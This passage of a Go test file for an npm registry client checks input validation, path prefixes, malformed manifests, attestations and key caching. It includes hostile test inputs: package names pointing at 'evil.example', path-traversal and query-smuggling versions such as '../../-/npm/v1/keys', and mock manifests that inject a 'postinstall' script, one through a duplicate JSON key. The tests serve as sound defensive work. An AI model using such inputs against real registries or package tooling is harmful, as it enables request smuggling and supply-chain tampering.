		{"foo\nbar", "1.0.0"},
		{`foo\bar`, "1.0.0"},
		{"http://evil.example/x", "1.0.0"},
		{"//evil.example", "1.0.0"},
		{"", "1.0.0"},
		{strings.Repeat("a", 215), "1.0.0"},
		{"express", ""},
		{"express", "../../-/npm/v1/keys"},
		{"express", "1.0.0/../../x"},
		{"express", "1.0.0?x=1"},
		{"express", "1.0.0#x"},
		{"express", "1.0.0%2f"},
		{"express", ".."},
		{"express", ".1"},
		{"express", "1.0.0 "},
		{"express", strings.Repeat("1", 257)},
	}
	for _, tt := range tests {
		if _, err := c.Manifest(ctx, tt.name, tt.version); !errors.Is(err, registry.ErrInvalidSpec) {
			t.Errorf("Manifest(%q, %q) error = %v, want ErrInvalidSpec", tt.name, tt.version, err)
		}
		if _, err := c.Attestations(ctx, tt.name, tt.version); !errors.Is(err, registry.ErrInvalidSpec) {
			t.Errorf("Attestations(%q, %q) error = %v, want ErrInvalidSpec", tt.name, tt.version, err)
		}
		if tt.version == "1.0.0" {
			if _, err := c.PublishTimes(ctx, tt.name); !errors.Is(err, registry.ErrInvalidSpec) {
				t.Errorf("PublishTimes(%q) error = %v, want ErrInvalidSpec", tt.name, err)
			}
		}
	}
	if n := srv.Total(); n != 0 {
		t.Errorf("the registry got %d requests, want 0: %v", n, srv.Requests())
	}
}

func TestLegacyNamesAccepted(t *testing.T) {
	t.Parallel()
	var paths []string
	var mu sync.Mutex
	srv := registrytest.NewServer(t, registrytest.WithHandler("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		paths = append(paths, r.URL.EscapedPath())
		mu.Unlock()
		w.WriteHeader(http.StatusNotFound)
	}))
	c := newClient(t, srv)
	names := []string{"JSONStream", "highlight.js", "lodash._baseassign", "_underscore", "@Scope/Pkg", "@babel/core", "a~b!c'd(e)f*", strings.Repeat("a", 214)}
	for _, n := range names {
		if _, err := c.Manifest(context.Background(), n, "1.0.0-beta.1+build.5"); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("Manifest(%q) error = %v, want a request and ErrNotFound", n, err)
		}
	}
	if len(paths) != len(names) {
		t.Errorf("requests = %v, want one per name", paths)
	}
}

func TestPathPrefix(t *testing.T) {
	t.Parallel()
	const prefix = "/artifactory/api/npm/npm-remote"
	srv := registrytest.NewServer(t, registrytest.WithPathPrefix(prefix))
	c, err := registry.New(srv.URL() + "/")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Manifest(context.Background(), "express", "4.17.1"); err != nil {
		t.Fatalf("Manifest: %v", err)
	}
	if _, err := c.Keys(context.Background()); err != nil {
		t.Fatalf("Keys: %v", err)
	}
	want := map[string]int{prefix + "/express/4.17.1": 1, prefix + "/-/npm/v1/keys": 1}
	if diff := cmp.Diff(want, srv.Requests()); diff != "" {
		t.Errorf("requests diff (-want +got):\n%s", diff)
	}
}

func TestManifestMismatch(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t,
		registrytest.WithHandler("/express/4.17.1", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, `{"name":"evil","version":"4.17.1","scripts":{"postinstall":"x"}}`)
		}),
		registrytest.WithHandler("/express/4.17.0", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, `<html>not json</html>`)
		}),
		registrytest.WithHandler("/express/4.16.4", func(w http.ResponseWriter, r *http.Request) {
			// Duplicate member: JSON.parse would take the second.
			fmt.Fprint(w, `{"name":"express","version":"4.16.4","scripts":{},"scripts":{"postinstall":"x"}}`)
		}),
	)
	c := newClient(t, srv)
	for _, v := range []string{"4.17.1", "4.17.0", "4.16.4"} {
		if _, err := c.Manifest(context.Background(), "express", v); !errors.Is(err, registry.ErrMalformed) {
			t.Errorf("Manifest(express, %s) error = %v, want ErrMalformed", v, err)
		}
	}
}

func TestAttestations(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	for _, spec := range []struct{ name, version string }{{"sigstore", "1.0.0"}, {"tuf-js", "1.0.0"}} {
		got, err := c.Attestations(context.Background(), spec.name, spec.version)
		if err != nil {
			t.Fatalf("Attestations(%s@%s): %v", spec.name, spec.version, err)
		}
		data, err := os.ReadFile("testdata/attestations/" + spec.name + "@" + spec.version + ".json")
		if err != nil {
			t.Fatal(err)
		}
		var want struct {
			Attestations []struct {
				PredicateType string          `json:"predicateType"`
				Bundle        json.RawMessage `json:"bundle"`
			} `json:"attestations"`
		}
		if err := json.Unmarshal(data, &want); err != nil {
			t.Fatal(err)
		}
		if len(got.Attestations) != len(want.Attestations) {
			t.Fatalf("%s: %d attestations, want %d", spec.name, len(got.Attestations), len(want.Attestations))
		}
		for i, a := range got.Attestations {
			if a.PredicateType != want.Attestations[i].PredicateType {
				t.Errorf("%s[%d]: predicate %q, want %q", spec.name, i, a.PredicateType, want.Attestations[i].PredicateType)
			}
			var g, w any
			if err := json.Unmarshal(a.Bundle, &g); err != nil {
				t.Fatalf("%s[%d]: bundle is not JSON: %v", spec.name, i, err)
			}
			_ = json.Unmarshal(want.Attestations[i].Bundle, &w)
			if diff := cmp.Diff(w, g); diff != "" {
				t.Errorf("%s[%d]: bundle diff (-want +got):\n%s", spec.name, i, diff)
			}
		}
	}
	if got := srv.Requests()["/-/npm/v1/attestations/sigstore@1.0.0"]; got != 1 {
		t.Errorf("requests = %v", srv.Requests())
	}
}

func TestKeys(t *testing.T) {
	t.Parallel()
	srv := registrytest.NewServer(t)
	c := newClient(t, srv)
	got, err := c.Keys(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	exp := mustTime(t, "2025-01-29T00:00:00Z")
	want := []registry.Key{
		{
			KeyID: "SHA256:jl3bwswu80PjjokCgh0o2w5c2U4LhQAE57gj9cz1kzA", KeyType: "ecdsa-sha2-nistp256", Scheme: "ecdsa-sha2-nistp256",
			Key:     "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE1Olb3zMAFFxXKHiIkQO5cJ3Yhl5i6UPp+IhuteBJbuHcA5UogKo0EWtlWwW6KSaKoTNEYL7JlCQiVnkhBktUgg==",
			Expires: &exp,
		},
		{
			KeyID: "SHA256:DhQ8wR5APBvFHLF/+Tc+AYvPOdTpcIDqOhxsBHRwC7U", KeyType: "ecdsa-sha2-nistp256", Scheme: "ecdsa-sha2-nistp256",
			Key: "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEY6Ya7W++7aUPzvMTrezH6Ycx3c+HOKYCcNGybJZSCJq/fd7Qa8uuAKtdIkUQtQiEKERhAmE5lMMJhP8OkDOa2g==",
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Keys diff (-want +got):\n%s", diff)
	}
	if _, err := c.Keys(context.Background()); err != nil {
		t.Fatal(err)
	}
	if n := srv.Total(); n != 1 {
		t.Errorf("requests = %d, want 1 (cached)", n)
	}
}
